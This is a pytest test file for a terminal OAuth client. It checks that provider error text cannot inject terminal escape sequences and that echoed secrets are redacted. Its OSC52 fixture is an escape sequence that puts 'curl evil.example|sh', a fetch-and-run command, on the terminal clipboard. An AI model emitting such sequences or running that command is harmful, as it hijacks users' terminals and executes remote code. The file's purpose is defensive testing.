"""Provider text cannot drive the terminal, and a provider that echoes the request does
not get its secrets shown (issue 15, findings 2 and 4)."""

from __future__ import annotations

import json
from base64 import b64encode
from dataclasses import replace
from urllib.parse import parse_qsl

import httpx2
import pytest
from authlib.integrations.httpx_client import OAuthError
from hypothesis import given
from hypothesis import strategies as st

from ringplus_tui.core.errors import AccessDeniedError, DiscoveryError, TokenEndpointError
from ringplus_tui.core.safe_text import MAX_SHOWN, REDACTED, redact, safe_text
from ringplus_tui.oauth.discovery import provider_from_metadata
from ringplus_tui.oauth.http import translate_error
from ringplus_tui.oauth.redirect import parse_authorization_response
from ringplus_tui.oauth.token_response import token_from_response
from ringplus_tui.sandbox import Sandbox
from ringplus_tui.service.facade import OAuthService
from ringplus_tui.store.secret_store import refresh_token_key
from ringplus_tui.store.settings import SettingsStore
from tests.helpers.faults import FaultyTransport
from tests.helpers.flows import browse, sign_in
from tests.helpers.security_fakes import FakeServer, Reply, Seen

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
"""Writes ``curl evil.example|sh`` to the clipboard of a terminal that obeys it."""
RETITLE = "\x1b]0;pwned\x07"


def _no_controls(text: str) -> bool:
    return not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in text)


# -- safe_text -------------------------------------------------------------------------


def test_escape_sequences_become_visible_text() -> None:
    shown = safe_text(f"bad {OSC52} and {RETITLE} and \x9b31m and \x7f")
    assert _no_controls(shown)
    assert "\\x1b]52;c;" in shown and "\\x07" in shown
    assert "\\x9b31m" in shown and "\\x7f" in shown
    assert safe_text("line one\nline two") == "line one\\x0aline two"


def test_long_text_is_cut_with_an_ellipsis() -> None:
    shown = safe_text("x" * 2000)
    assert len(shown) == MAX_SHOWN and shown.endswith("…")
    assert safe_text("short") == "short"


@given(st.text())
def test_safe_text_is_total_and_never_leaves_a_control_character(value: str) -> None:
    shown = safe_text(value)
    assert _no_controls(shown)
    assert len(shown) <= MAX_SHOWN
    if (
        _no_controls(value)
        and len(value) <= MAX_SHOWN
        and not any(
            ch in value
            for ch in "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
        )
    ):
        assert shown == value  # ordinary text is left alone


@given(st.one_of(st.none(), st.integers(), st.binary(), st.lists(st.text())))
def test_safe_text_takes_anything(value: object) -> None:
    assert _no_controls(safe_text(value))


def test_safe_text_survives_an_object_whose_str_fails() -> None:
    class Hostile:
        def __str__(self) -> str:
            raise RuntimeError("no")

    assert safe_text(Hostile()) == "<Hostile>"


@given(st.text(min_size=4).filter(lambda s: s.strip() == s and len(set(s)) > 2), st.text())
def test_redact_removes_a_secret_wherever_it_is(secret: str, around: str) -> None:
    assert secret not in redact(f"{around}{secret}{around}", [secret]).replace(REDACTED, "")


def test_redact_knows_the_encoded_forms() -> None:
    secret = "s3cr3t/with+odd=chars"
    basic = b64encode(f"client:{secret}".encode()).decode()
    text = f"body: client_secret=s3cr3t%2Fwith%2Bodd%3Dchars header: Basic {basic} raw {secret}"
    cleaned = redact(text, [secret, basic])
    assert "s3cr3t" not in cleaned and basic not in cleaned


# -- provider text in the messages of oauth/ -------------------------------------------


def test_a_token_endpoint_error_description_cannot_drive_the_terminal() -> None:
    err = OAuthError(error=f"invalid_grant{RETITLE}", description=f"nope {OSC52}")
    translated = translate_error(err, url="https://id.example/token")
    assert isinstance(translated, TokenEndpointError)
    assert _no_controls(translated.message)
    assert _no_controls(translated.description or "") and _no_controls(translated.error or "")
    assert "\\x1b]52" in translated.message  # shown, visibly, not obeyed


def test_an_error_in_a_200_token_response_cannot_drive_the_terminal() -> None:
    with pytest.raises(TokenEndpointError) as caught:
        token_from_response(
            {"error": "x\x1b[2J", "error_description": OSC52}, now=0, default_lifetime=60
        )
    assert _no_controls(caught.value.message)
    assert _no_controls(caught.value.description or "")


def test_a_pasted_url_error_description_cannot_drive_the_terminal() -> None:
    # No state is needed to get this text shown, so anyone can craft the URL.
    pasted = "https://app.example/cb?error=access_denied&error_description=%1B%5D52%3Bc%3BY3Vy%07"
    response = parse_authorization_response(pasted)
    with pytest.raises(AccessDeniedError) as caught:
        response.raise_for_error()
    assert _no_controls(caught.value.message)
    assert _no_controls(caught.value.description or "")


def test_a_discovered_issuer_in_a_message_cannot_drive_the_terminal() -> None:
    document = {"issuer": f"https://evil.example{OSC52}", "authorization_endpoint": "x"}
    with pytest.raises(DiscoveryError) as caught:
        provider_from_metadata(
            "https://id.example", document, document_url="https://id.example/.well-known/x"
        )
    assert _no_controls(caught.value.message)


# -- an echoing provider --------------------------------------------------------------


def _echo(seen: Seen) -> Reply:
    """A token endpoint that echoes the whole request in its error (finding 4)."""
    echoed = f"{seen.method} {seen.path} headers={seen.headers} body={seen.body.decode()}"
    return Reply(
        400,
        json.dumps({"error": "invalid_request", "error_description": echoed}),
        {"Content-Type": "application/json"},
    )


async def test_an_echoing_token_endpoint_never_shows_the_secrets_of_the_code_exchange(
    config_dir, secret_store, sandbox: Sandbox
) -> None:
    with FakeServer(_echo) as echo:
        service = OAuthService(SettingsStore(config_dir), secret_store)
        try:
            app = sandbox.demo_app()
            app = replace(
                app, provider=replace(app.provider, token_endpoint=f"{echo.base_url}/token")
            )
            await service.save_app(app, sandbox.client_secret)
            await service.add_account("alice", "sandbox")
            pending = await service.start_authorization("alice")
            redirected = await browse(pending.authorization_url)
            with pytest.raises(TokenEndpointError) as caught:
                await service.complete_authorization(redirected)
        finally:
            await service.aclose()
    sent = echo.seen[-1]
    form = dict(parse_qsl(sent.body.decode()))
    basic = sent.headers["authorization"].split()[1]
    shown = f"{caught.value.message} {caught.value.description}"
    assert "grant_type=authorization_code" in shown  # the echo did reach the message
    for secret in (sandbox.client_secret, form["code_verifier"], form["code"], basic):
        assert secret not in shown
    assert REDACTED in shown


async def test_an_echoing_token_endpoint_never_shows_the_refresh_token(
    config_dir, secret_store, sandbox: Sandbox
) -> None:
    def rule(request: httpx2.Request) -> httpx2.Response | None:
        if request.url.path.endswith("/oauth/token") and b"refresh_token" in request.content:
            echoed = f"{dict(request.headers)} {request.content.decode()}"
            return httpx2.Response(
                400, json={"error": "invalid_grant", "error_description": echoed}
            )
        return None

    service = OAuthService(SettingsStore(config_dir), secret_store, transport=FaultyTransport(rule))
    try:
        await sign_in(service, sandbox)
        refresh_token = secret_store.get(refresh_token_key("alice"))
        assert refresh_token
        with pytest.raises(TokenEndpointError) as caught:
            await service.refresh("alice")
    finally:
        await service.aclose()
    basic = b64encode(f"{sandbox.client_id}:{sandbox.client_secret}".encode()).decode()
    shown = f"{caught.value.message} {caught.value.description}"
    assert "grant_type=refresh_token" in shown
    for secret in (refresh_token, sandbox.client_secret, basic):
        assert secret not in shown
